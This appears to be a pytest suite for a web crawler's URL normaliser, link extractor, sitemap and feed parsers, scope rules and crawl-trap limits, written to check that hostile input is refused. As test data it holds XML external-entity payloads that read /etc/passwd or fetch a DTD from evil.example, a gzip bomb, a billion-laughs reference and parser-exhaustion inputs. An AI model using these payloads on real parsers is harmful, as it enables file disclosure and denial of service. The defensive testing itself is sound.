"""The site crawl as pure logic: URLs, links, sitemaps, feeds, scope, traps, limits, resume."""

from __future__ import annotations

import gzip
import time
from collections.abc import Iterable

import pytest

from safeeye.ingest.crawl import (
    CrawlEvent,
    CrawlLimits,
    CrawlState,
    LimitReached,
    MediaFound,
    PageFailed,
    PageVisited,
    crawl,
    page_kind,
)
from safeeye.ingest.feeds import parse_feed
from safeeye.ingest.links import extract_links, parse_srcset
from safeeye.ingest.scope import CrawlScope
from safeeye.ingest.sitemaps import XmlRejected, parse_sitemap
from safeeye.ingest.urls import normalize_url
from site_fixture import (
    ATOM,
    BILLION_LAUGHS,
    CDN,
    EXPECTED_MEDIA,
    FORBIDDEN_MEDIA,
    OTHER,
    RSS,
    SITE,
    SITEMAP_IMAGES,
    FakeSite,
    build_site,
)

SCOPE = CrawlScope(hosts=("site.example",), exclude=("/private/**",))


def run(
    site: FakeSite,
    scope: CrawlScope = SCOPE,
    limits: CrawlLimits | None = None,
    seeds: Iterable[str] = (SITE + "/",),
    **options,
) -> list[CrawlEvent]:
    return list(crawl(list(seeds), scope, limits or CrawlLimits(), site.fetch, **options))


def media_of(events: list[CrawlEvent]) -> set[str]:
    return {e.link.url for e in events if isinstance(e, MediaFound)}


def limits_of(events: list[CrawlEvent]) -> set[str]:
    return {e.which for e in events if isinstance(e, LimitReached)}


# --- URLs -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "base", "expected"),
    [
        ("HTTP://Example.COM:80/a/./b/../c#frag", None, "http://example.com/a/c"),
        ("https://example.com:443", None, "https://example.com/"),
        ("https://example.com:8443/x", None, "https://example.com:8443/x"),
        ("../img/a.jpg", "https://example.com/g/p/", "https://example.com/g/img/a.jpg"),
        ("//cdn.example/a.png", "https://example.com/", "https://cdn.example/a.png"),
        (
            "/%7euser/%2fa%2Fb?q=%e2%82%ac",
            "https://example.com",
            "https://example.com/~user/%2Fa%2Fb?q=%E2%82%AC",
        ),
        ("/a b/ü.jpg", "https://example.com/", "https://example.com/a%20b/%C3%BC.jpg"),
        (
            "/p?x=1&PHPSESSID=zz&utm_source=m&y=2",
            "https://example.com/",
            "https://example.com/p?x=1&y=2",
        ),
        ("/p;jsessionid=ABC?x=1", "https://example.com/", "https://example.com/p?x=1"),
        ("https://bücher.example/", None, "https://xn--bcher-kva.example/"),
        ("https://[::1]:8080/x", None, "https://[::1]:8080/x"),
        ("  https://example.com/\n\tpath  ", None, "https://example.com/path"),
        ("https://example.com/a/b/..", None, "https://example.com/a/"),
        ("https://example.com/?", None, "https://example.com/"),
        ("https://example.com/50%", None, "https://example.com/50%25"),
    ],
)
def test_normalize_url_gives_one_canonical_form(url, base, expected):
    assert normalize_url(url, base) == expected


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "data:image/png;base64,AAAA",
        "mailto:a@example.com",
        "ftp://example.com/a.jpg",
        "file:///etc/passwd",
        "https://user:pw@example.com/",
        "https://user@example.com/",
        "https://example.com:99999/",
        "https://exa mple.com/",
        "https://[::1/",
        "https://example.com/" + "a" * 2100,
        "",
    ],
)
def test_normalize_url_refuses_what_a_crawl_must_not_follow(url):
    assert normalize_url(url, "https://example.com/") is None


def test_fragment_and_case_variants_share_one_key():
    variants = ["https://SITE.example/Gallery/#a", "https://site.example:443/Gallery/#b"]
    assert {normalize_url(v) for v in variants} == {"https://site.example/Gallery/"}
    assert normalize_url("https://site.example/gallery/") != "https://site.example/Gallery/"


# --- HTML links -----------------------------------------------------------------------------


def test_srcset_candidates_keep_commas_inside_urls():
    value = "a.jpg 1x, /b,c.jpg 2x,d.jpg, e.jpg 100w, f(1).jpg"
    assert parse_srcset(value) == ["a.jpg", "/b,c.jpg", "d.jpg", "e.jpg", "f(1).jpg"]


def test_extract_links_reads_every_kind_of_media_markup():
    html = b"""<html><head>
    <meta property="og:video:secure_url" content="https://cdn.example/v.mp4">
    <meta http-equiv="refresh" content="5; url=/next.html"></head><body>
    <img src="a.jpg" data-srcset="a-1.jpg 1x, a-2.jpg 2x">
    <video poster="p.jpg"><source src="v.webm"></video>
    <a href="/x/photo.HEIC?size=l">photo</a> <a href="/page">page</a>
    <frame src="/frame.html"><embed src="/clip.avi">
    </body></html>"""
    links = extract_links(html, "https://s.example/dir/")
    assert {(m.url, m.how) for m in links.media} == {
        ("https://cdn.example/v.mp4", "og:video"),
        ("https://s.example/dir/a.jpg", "img"),
        ("https://s.example/dir/a-1.jpg", "img"),
        ("https://s.example/dir/a-2.jpg", "img"),
        ("https://s.example/dir/p.jpg", "poster"),
        ("https://s.example/dir/v.webm", "source"),
        ("https://s.example/x/photo.HEIC?size=l", "a"),
        ("https://s.example/clip.avi", "embed"),
    }
    assert set(links.pages) == {
        "https://s.example/next.html",
        "https://s.example/page",
        "https://s.example/frame.html",
    }
    assert all(m.page_url == "https://s.example/dir/" for m in links.media)


def test_extract_links_honours_base_href_and_declared_encoding():
    html = '<base href="/files/"><img src="é.png">'.encode("latin-1")
    links = extract_links(html, "https://s.example/a/b.html", "iso-8859-1")
    assert links.media[0].url == "https://s.example/files/%C3%A9.png"


def test_extract_links_survives_hostile_input_in_bounded_time():
    hostile = [
        b"\x00\xff" * 100_000,
        b"<a" * 2_500_000,  # quadratic in html.parser without chunking and the tail rule
        b"</" * 2_500_000 + b"<img src=a.jpg>",
        b"<a " + b"b='" * 1_500_000,
        b"<!--" + b"<img src=x.jpg>" * 300_000,
        b"<![CDATA[" * 500_000,
        b"<img src='" + b"x" * 5_000_000,
        b"<meta charset=rot13><img src=a.jpg>",
        b"<meta charset=idna><img src=a.jpg>",
    ]
    for body in hostile:
        started = time.monotonic()
        extract_links(body, "https://s.example/", max_seconds=0.5)
        # The parse stops near its 0.5 s budget (unbounded, these take minutes); the bound is
        # loose because CI machines are shared.
        assert time.monotonic() - started < 10, body[:20]
    unterminated = b"<img src=seen.jpg><img src='never-closed.jpg" + b"x" * 100_000
    links = extract_links(unterminated, "https://s.example/")
    assert [m.url for m in links.media] == ["https://s.example/seen.jpg"]


def test_extract_links_caps_bytes_and_links_per_page():
    body = b"".join(b'<a href="/p%d">x</a><img src="/i%d.jpg">' % (i, i) for i in range(20_000))
    links = extract_links(body, "https://s.example/", max_links=5000)
    assert len(links.pages) == 5000
    assert len(links.media) == 5000
    capped = extract_links(body, "https://s.example/", max_bytes=1000)
    assert 0 < len(capped.media) < 50


# --- sitemaps and feeds ---------------------------------------------------------------------


def test_sitemap_lists_pages_and_image_and_video_extensions():
    sitemap = parse_sitemap(gzip.compress(SITEMAP_IMAGES.encode()), SITE + "/s.xml.gz")
    assert sitemap.kind == "urlset"
    assert sitemap.pages == (SITE + "/hidden/album.html", SITE + "/private/listed.html")
    assert {(m.url, m.page_url, m.how) for m in sitemap.media} == {
        (SITE + "/img/sitemap-only.jpg", SITE + "/hidden/album.html", "sitemap:image"),
        (SITE + "/vid/sitemap-only.mp4", SITE + "/hidden/album.html", "sitemap:video"),
        (SITE + "/vid/sitemap-thumb.jpg", SITE + "/hidden/album.html", "sitemap:video-thumbnail"),
        (SITE + "/img/private-sitemap.jpg", SITE + "/private/listed.html", "sitemap:image"),
    }


def test_sitemap_with_an_undeclared_image_prefix_is_still_read():
    body = b"""<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
    <url><loc>https://s.example/p</loc><image:image><image:loc>/i.jpg</image:loc></image:image>
    </url></urlset>"""
    sitemap = parse_sitemap(body, "https://s.example/sitemap.xml")
    assert [(m.url, m.page_url) for m in sitemap.media] == [
        ("https://s.example/i.jpg", "https://s.example/p")
    ]


def test_text_sitemap_keeps_only_absolute_urls():
    body = b"https://s.example/a\n\nnot a url\n/relative\nhttps://s.example/b\n"
    assert parse_sitemap(body, "https://s.example/sitemap.txt").pages == (
        "https://s.example/a",
        "https://s.example/b",
    )


def test_gzip_bomb_sitemap_is_refused_at_the_cap():
    bomb = gzip.compress(b"<urlset>" + b" " * 60_000_000 + b"</urlset>")
    assert len(bomb) < 100_000
    with pytest.raises(XmlRejected) as caught:
        parse_sitemap(bomb, "https://s.example/sitemap.xml.gz")
    assert caught.value.code == "too_large"


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        "<urlset><url><loc>&x;</loc></url></urlset>",
        '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>'
        "<urlset/>",
        "<urlset><url><loc>https://s.example/a</loc></url>",
        "<urlset>" + "<a>" * 1000 + "</a>" * 1000 + "</urlset>",
        "<html><body>not a sitemap</body></html>",
    ],
)
def test_hostile_or_wrong_xml_is_refused(body):
    started = time.monotonic()
    with pytest.raises(XmlRejected):
        parse_sitemap(body.encode(), "https://s.example/sitemap.xml")
    with pytest.raises(XmlRejected):
        parse_feed(body.encode(), "https://s.example/feed.xml")
    assert time.monotonic() - started < 10  # refused before any expansion


def test_rss_feed_gives_item_pages_visual_enclosures_and_description_images():
    feed = parse_feed(RSS.encode(), SITE + "/feed.xml")
    assert feed.kind == "rss"
    assert SITE + "/blog/post-1.html" in feed.pages
    assert {m.url: m.how for m in feed.media} == {
        SITE + "/media/podcast-video.mp4": "enclosure",
        SITE + "/media/feed-content.jpg": "media:content",
        SITE + "/media/feed-thumb.jpg": "media:thumbnail",
        SITE + "/img/from-description.jpg": "img",
    }  # the audio enclosure is left out
    assert {m.page_url for m in feed.media} == {SITE + "/blog/post-1.html"}


def test_atom_feed_gives_alternate_pages_and_enclosures():
    feed = parse_feed(ATOM.encode(), SITE + "/atom.xml")
    assert feed.kind == "atom"
    assert feed.pages == (SITE + "/blog/post-2.html",)
    assert {m.url for m in feed.media} == {
        SITE + "/media/atom-enclosure.webm",
        SITE + "/img/atom-content.gif",
    }


def test_page_kind_sniffs_xml_that_the_content_type_does_not_name():
    assert page_kind("text/xml", SITEMAP_IMAGES.encode()) == "sitemap"
    assert page_kind("application/octet-stream", gzip.compress(RSS.encode())) == "feed"
    assert page_kind(None, ATOM.encode()) == "feed"
    assert page_kind("text/plain", b"<!DOCTYPE html><html>") == "html"
    assert page_kind("image/jpeg", b"\xff\xd8\xff") == "other"


# --- scope ----------------------------------------------------------------------------------


def test_scope_globs_hosts_ports_and_exclusion():
    scope = CrawlScope(
        hosts=("site.example", "*.blog.example", "localhost:8080"),
        include=("/gallery/**", "/a/**/b", "/posts/*.html"),
        exclude=("/gallery/private/**",),
    )
    allowed = [
        "https://site.example/gallery",
        "https://site.example/gallery/",
        "https://site.example/gallery/2024/05/x.html",
        "https://site.example/a/b",
        "https://site.example/a/x/y/b",
        "https://site.example/posts/1.html",
        "https://www.blog.example/posts/1.html",
        "http://localhost:8080/gallery/",
        "https://SITE.example:443/gallery/?page=2#top",
    ]
    refused = [
        "https://site.example/",
        "https://site.example/gallery/private/1.html",
        "https://site.example/posts/2024/1.html",
        "https://blog.example/posts/1.html",
        "https://evil-site.example/gallery/",
        "https://site.example.evil/gallery/",
        "http://localhost:9090/gallery/",
        "javascript:alert(1)",
    ]
    assert all(scope.allows_page(url) for url in allowed)
    assert not any(scope.allows_page(url) for url in refused)
    assert scope.allows_index("https://site.example/sitemap.xml")
    assert not scope.allows_index("https://site.example/gallery/private/sitemap.xml")


def test_media_host_rule():
    anywhere = CrawlScope(hosts=("site.example",))
    named = CrawlScope(hosts=("site.example",), media_hosts=("cdn.example",), media_any_host=False)
    assert anywhere.allows_media("https://tracker.example/a.jpg")
    assert named.allows_media("https://cdn.example/a.jpg")
    assert named.allows_media("https://site.example/a.jpg")
    assert not named.allows_media("https://tracker.example/a.jpg")


def test_scope_refuses_a_host_entry_that_is_not_a_host():
    with pytest.raises(ValueError):
        CrawlScope(hosts=("not a host",))


# --- the crawl ------------------------------------------------------------------------------


def test_crawl_finds_every_in_scope_media_file_and_none_out_of_scope():
    site = build_site()
    started = time.monotonic()
    events = run(site)
    found = media_of(events)
    assert found == EXPECTED_MEDIA
    assert not found & FORBIDDEN_MEDIA
    media_events = [e for e in events if isinstance(e, MediaFound)]
    assert len(media_events) == len(found)  # each media URL reported once
    assert time.monotonic() - started < 30


def test_crawl_never_fetches_a_url_twice_nor_out_of_scope():
    site = build_site()
    run(site)
    assert len(site.fetched) == len(set(site.fetched))
    assert all(url.startswith(SITE + "/") for url in site.fetched)
    assert not site.fetched_under("/private/")
    assert SITE + "/about" in site.fetched  # reached through its session-id and fragment forms


def test_crawl_records_failures_and_goes_on():
    site = build_site()
    site.raise_for = frozenset({SITE + "/videos/"})
    events = run(site)
    failed = {e.url: e.reason for e in events if isinstance(e, PageFailed)}
    assert failed[SITE + "/videos/"] == "fetch raised ConnectionError"
    assert failed[SITE + "/missing.html"] == "HTTP 404"
    assert failed[SITE + "/go-away"] == "redirected out of scope"
    assert failed[SITE + "/sitemaps/bomb.xml"].startswith("xml_entities:")
    assert media_of(events) == EXPECTED_MEDIA - {
        SITE + path for path in ("/vid/v1.mp4", "/vid/v1-poster.jpg", "/vid/v2.webm")
    } - {SITE + "/vid/v3.mov", SITE + "/vid/embed.m4v"}


def test_fetch_returning_none_is_a_failure_event():
    events = list(crawl([SITE + "/"], SCOPE, CrawlLimits(), lambda url: None))
    assert events == [
        PageFailed(SITE + "/", "fetch failed"),
        PageFailed(SITE + "/sitemap.xml", "fetch failed"),
    ]


def test_cdn_media_is_left_out_when_the_scope_names_other_media_hosts():
    scope = CrawlScope(hosts=("site.example",), exclude=("/private/**",), media_any_host=False)
    found = media_of(run(build_site(), scope))
    assert found == {url for url in EXPECTED_MEDIA if not url.startswith(CDN)}


def test_include_patterns_limit_pages_while_the_sitemap_is_still_read():
    site = build_site()
    scope = CrawlScope(hosts=("site.example",), include=("/gallery/**", "/hidden/**"))
    found = media_of(run(site, scope, seeds=[SITE + "/gallery/"]))
    assert SITE + "/gallery/g1.jpg" in found
    assert SITE + "/img/sitemap-only.jpg" in found  # listed for an included page
    assert SITE + "/img/unlinked.png" not in found  # its page is not included
    assert SITE + "/" not in site.fetched


def test_the_start_page_is_read_outside_the_include_patterns_which_only_steer_links():
    site = build_site()
    scope = CrawlScope(hosts=("site.example",), include=("/gallery/**",))
    events = run(site, scope, sitemaps=False, feeds=False)
    visited = {e.url for e in events if isinstance(e, PageVisited)}
    assert visited == {SITE + "/", SITE + "/gallery/"}
    found = media_of(events)
    assert SITE + "/img/og-cover.jpg" in found  # on the start page itself
    assert SITE + "/gallery/g1.jpg" in found  # on a page its links led to
    assert not site.fetched_under("/videos/") and SITE + "/about" not in site.fetched


def test_an_excluded_start_page_is_read_and_its_excluded_links_are_not_followed():
    site = build_site()
    site.pages[SITE + "/private/secret.html"] = (
        "text/html",
        b'<img src="/img/private.jpg"><a href="/private/more.html">more</a>',
    )
    events = run(site, seeds=[SITE + "/private/secret.html"], sitemaps=False)
    assert media_of(events) == {SITE + "/img/private.jpg"}
    assert site.fetched == [SITE + "/private/secret.html"]


def test_a_start_page_that_redirects_elsewhere_on_its_host_is_followed():
    site = build_site()
    site.redirects[SITE + "/start"] = SITE + "/"
    scope = CrawlScope(hosts=("site.example",), include=("/gallery/**",))
    events = run(site, scope, seeds=[SITE + "/start"], sitemaps=False, feeds=False)
    assert SITE + "/gallery/g1.jpg" in media_of(events)
    site.redirects[SITE + "/leave"] = OTHER + "/moved.html"
    events = run(site, scope, seeds=[SITE + "/leave"], sitemaps=False)
    assert events == [PageFailed(SITE + "/leave", "redirected out of scope")]


def test_without_sitemaps_and_feeds_their_media_are_not_found():
    found = media_of(run(build_site(), sitemaps=False, feeds=False))
    assert SITE + "/img/sitemap-only.jpg" not in found
    assert SITE + "/media/podcast-video.mp4" not in found
    assert SITE + "/gallery/g1.jpg" in found


def test_link_maze_stops_at_the_page_limit_quickly():
    site = build_site()
    started = time.monotonic()
    limits = CrawlLimits(max_depth=1000, max_pages=300, max_pages_per_prefix=10_000)
    events = run(site, limits=limits, seeds=[SITE + "/maze/"], sitemaps=False)
    assert len(site.fetched) == 300
    assert events[-1] == LimitReached("max_pages")
    assert time.monotonic() - started < 30


def test_link_maze_cannot_starve_the_rest_of_the_site():
    site = build_site()
    limits = CrawlLimits(max_depth=10_000, max_pages=10_000, max_pages_per_prefix=100)
    events = run(site, limits=limits)
    assert len(site.fetched_under("/maze/")) <= 100
    assert LimitReached("max_pages_per_prefix", "site.example/maze") in events
    assert media_of(events) == EXPECTED_MEDIA


def test_depth_limit_prunes_the_maze():
    site = build_site()
    events = run(site, limits=CrawlLimits(max_depth=3), seeds=[SITE + "/maze/"], sitemaps=False)
    assert len(site.fetched) == 1 + 2 + 4 + 8
    assert "max_depth" in limits_of(events)


def test_calendar_trap_is_bounded_by_query_variants_per_path():
    site = build_site()
    limits = CrawlLimits(max_depth=10_000, max_query_variants_per_path=20)
    events = run(site, limits=limits, seeds=[SITE + "/calendar?month=0"], sitemaps=False)
    assert len(site.fetched_under("/calendar")) == 20
    assert LimitReached("max_query_variants_per_path", "site.example/calendar") in events


def test_repeating_and_overdeep_paths_are_not_followed():
    pages = {
        SITE + "/": (
            "text/html",
            b'<a href="/a/b/a/b/a/b/a/b/">loop</a><a href="/1/2/3/4/5/6/7/8/9/">deep</a>',
        )
    }
    site = FakeSite(pages)
    events = run(site, limits=CrawlLimits(max_path_segments=8), sitemaps=False)
    assert site.fetched == [SITE + "/"]
    assert {"repeating_path", "max_path_segments"} <= limits_of(events)


def test_urls_longer_than_the_limit_are_not_followed():
    long_page, long_image = "/p/" + "a" * 100, "/i/" + "b" * 100 + ".jpg"
    pages = {
        SITE + "/": ("text/html", f'<a href="{long_page}">p</a><img src="{long_image}">'.encode())
    }
    site = FakeSite(pages)
    events = run(site, limits=CrawlLimits(max_url_length=80), sitemaps=False)
    assert site.fetched == [SITE + "/"]
    assert not media_of(events)


def test_media_and_time_limits_stop_the_crawl():
    events = run(build_site(), limits=CrawlLimits(max_media=5))
    assert len(media_of(events)) == 5
    assert events[-1] == LimitReached("max_media")
    ticks = iter(range(1000))
    events = list(
        crawl(
            [SITE + "/"],
            SCOPE,
            CrawlLimits(max_seconds=3),
            build_site().fetch,
            clock=lambda: float(next(ticks)),
        )
    )
    assert sum(isinstance(e, PageVisited | PageFailed) for e in events) == 2
    assert events[-1] == LimitReached("max_seconds")


def test_media_served_at_a_page_url_is_reported_for_the_linking_page():
    pages = {
        SITE + "/": ("text/html", b'<a href="/download?id=7">get</a>'),
        SITE + "/download?id=7": ("video/mp4", b"\x00\x00\x00\x18ftypmp42"),
    }
    events = run(FakeSite(pages), sitemaps=False)
    found = [e.link for e in events if isinstance(e, MediaFound)]
    assert [(m.url, m.page_url, m.how) for m in found] == [
        (SITE + "/download?id=7", SITE + "/", "direct")
    ]


def test_crawl_state_resumes_where_it_stopped():
    site = build_site()
    state = CrawlState()
    first: list[CrawlEvent] = []
    for event in crawl([SITE + "/"], SCOPE, CrawlLimits(), site.fetch, state=state):
        first.append(event)
        if len(media_of(first)) == 12:
            break  # the consumer stops mid-page; the state is saved right here
    saved = state.to_json()
    resumed = CrawlState.from_json(saved)
    assert resumed.to_json() == saved
    rest = list(crawl([SITE + "/"], SCOPE, CrawlLimits(), site.fetch, state=resumed))
    assert media_of(first) | media_of(rest) == EXPECTED_MEDIA
    assert not media_of(first) & media_of(rest)
    assert not resumed.frontier


def test_crawl_state_refuses_what_it_did_not_write():
    with pytest.raises(ValueError):
        CrawlState.from_json('{"version": 1}')
    with pytest.raises(ValueError):
        CrawlState.from_json("not json")
